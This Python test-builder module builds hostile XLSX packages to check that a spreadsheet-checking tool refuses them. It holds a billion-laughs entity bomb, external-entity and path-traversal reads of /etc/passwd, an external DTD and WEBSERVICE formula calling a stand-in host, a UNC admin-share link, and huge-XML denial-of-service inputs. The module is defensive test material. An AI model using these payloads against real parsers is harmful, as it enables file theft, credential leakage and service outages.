"""XML that multiplies, reaches out, or has no end."""

from pathlib import Path

from tests.builders.hostile.case import (
    BOOK,
    BOOK_RELATIONS,
    END_OF_CELLS,
    FAR_ROW,
    SHEET,
    SHEET_RELATIONS,
    STRINGS,
    STYLES,
    Hostile,
    sound,
    with_more,
    with_part,
)  # fmt: skip
from tests.builders.package import relations, save
from zi_cli.criteria.criteria_set import CriteriaSet

_DOCTYPE = "document type declaration"
_LAUGHS = '<!ENTITY l0 "ha">' + "".join(
    f"<!ENTITY l{level} '" + f"&l{level - 1};" * 10 + "'>" for level in range(1, 10)
)
_ROOT = "<worksheet "


def _doctype(inner: str) -> Hostile:
    return Hostile(with_more(SHEET, _ROOT, lambda: f"<!DOCTYPE worksheet {inner}>"), refused=_DOCTYPE)


def laughs_in_strings(path: Path, criteria: CriteriaSet) -> Path:
    """Entities that multiply, in the shared texts."""
    parts = sound()
    strings = parts[STRINGS].replace("<sst ", f"<!DOCTYPE sst [{_LAUGHS}]><sst ", 1)
    return save(path, {**parts, STRINGS: strings.replace("<t>", "<t>&l9;", 1)})


def target_outside(path: Path, criteria: CriteriaSet) -> Path:
    """A sheet that lies outside of the package."""
    parts = sound()
    outside = parts[BOOK_RELATIONS].replace("worksheets/sheet1.xml", "../../../../../../etc/passwd")
    return save(path, {**parts, BOOK_RELATIONS: outside})


def external_book(path: Path, criteria: CriteriaSet) -> Path:
    """Formulas and links that lead into other workbooks."""
    parts = sound()
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    cell = f'<row r="{FAR_ROW}"><c r="A{FAR_ROW}"><f>[1]Lain!A1+WEBSERVICE("http://contoh.example/")</f></c></row>'
    target = {"rId1": ("externalLinkPath", "file:///\\\\contoh.example\\c$\\rahasia.xlsx")}
    return save(
        path,
        {
            **parts,
            SHEET: parts[SHEET].replace(END_OF_CELLS, cell + END_OF_CELLS),
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(target, external=True),
        },
    )


XML = {
    "entitas-berlipat": _doctype(f"[{_LAUGHS}]"),
    "entitas-berlipat-teks": Hostile(laughs_in_strings, refused=_DOCTYPE),
    "entitas-luar": _doctype('[<!ENTITY e SYSTEM "file:///etc/passwd">]'),
    "dtd-luar": _doctype('SYSTEM "http://contoh.example/a.dtd"'),
    "xml-dalam": Hostile(with_part(SHEET, lambda: "<a>" * 3_000_000), refused="cannot be read"),
    "xml-dalam-di-buku": Hostile(with_part(BOOK, lambda: "<sheets>" * 1_500_000), refused="cannot be read"),
    "nama-unsur-beragam": Hostile(
        with_more(SHEET, END_OF_CELLS, lambda: "".join(f"<n{n:x}/>" for n in range(1_000_000))),
        refused="cannot be read",
    ),
    "nama-atribut-beragam": Hostile(
        with_more(SHEET, END_OF_CELLS, lambda: "".join(f'<c a{n:x}=""/>' for n in range(1_000_000))),
        refused="cannot be read",
    ),
    "satu-unsur-besar": Hostile(
        with_more(SHEET, END_OF_CELLS, lambda: '<c r="' + "A" * 30_000_000 + '"/>'), refused="cannot be read"
    ),
    "komentar-besar": Hostile(
        with_more(SHEET, END_OF_CELLS, lambda: f"<!--{'x' * 30_000_000}-->"), refused="cannot be read"
    ),
    "unsur-kosong": Hostile(
        with_more(SHEET, END_OF_CELLS, lambda: "<c/>" * 2_100_000), refused="more than"
    ),
    "sejuta-teks": Hostile(
        with_more(STRINGS, "</sst>", lambda: "".join(f"<si><t>{n}</t></si>" for n in range(1_000_000))),
        refused="more than",
    ),
    "teks-kosong": Hostile(with_more(STRINGS, "</sst>", lambda: "<si/>" * 2_100_000), refused="more than"),
    "gaya-banyak": Hostile(
        with_more(STYLES, "</cellXfs>", lambda: "<xf/>" * 2_100_000), refused="more than"
    ),
    "format-angka-jahat": Hostile(
        with_more(
            STYLES, "</styleSheet>", lambda: '<numFmt numFmtId="200" formatCode="' + "[" * 900_000 + '"/>'
        )
    ),
    "format-bersyarat-100000": Hostile(
        with_more(
            SHEET,
            "<pageMargins",
            lambda: "".join(
                f'<conditionalFormatting sqref="A{n}"><cfRule type="expression" priority="{n}">'
                f"<formula>A{n}=1</formula></cfRule></conditionalFormatting>"
                for n in range(1, 100_001)
            ),
        )
    ),
    "tautan-60000": Hostile(
        with_more(
            SHEET, "</hyperlinks>", lambda: "".join(f'<hyperlink ref="Z{n}" location="A1"/>' for n in range(1, 60_001))
        )
    ),
    "tautan-2000000": Hostile(
        with_more(SHEET, "</hyperlinks>", lambda: '<hyperlink ref="Z1"/>' * 2_000_000), refused="more than"
    ),
    "relasi-400000": Hostile(
        with_more(
            SHEET_RELATIONS,
            "</Relationships>",
            lambda: "".join(f'<Relationship Id="x{n}" Type="a" Target="b{n}"/>' for n in range(400_000)),
        ),
        refused="more than",
    ),
    "rumus-bersama": Hostile(
        with_more(
            SHEET,
            END_OF_CELLS,
            lambda: "".join(f'<c r="A9000"><f t="shared" si="{n}">1</f></c>' for n in range(700_000)),
        ),
        refused="cannot be read",
    ),
    "kolom-tersembunyi": Hostile(
        with_more(
            SHEET, "<sheetData>", lambda: '<col min="1" max="256" hidden="1"/>' * 800_000
        ),
        refused="cannot be read",
    ),
    "sasaran-di-luar-paket": Hostile(target_outside, refused="cannot be read"),
    "buku-lain": Hostile(external_book),
}  # fmt: skip
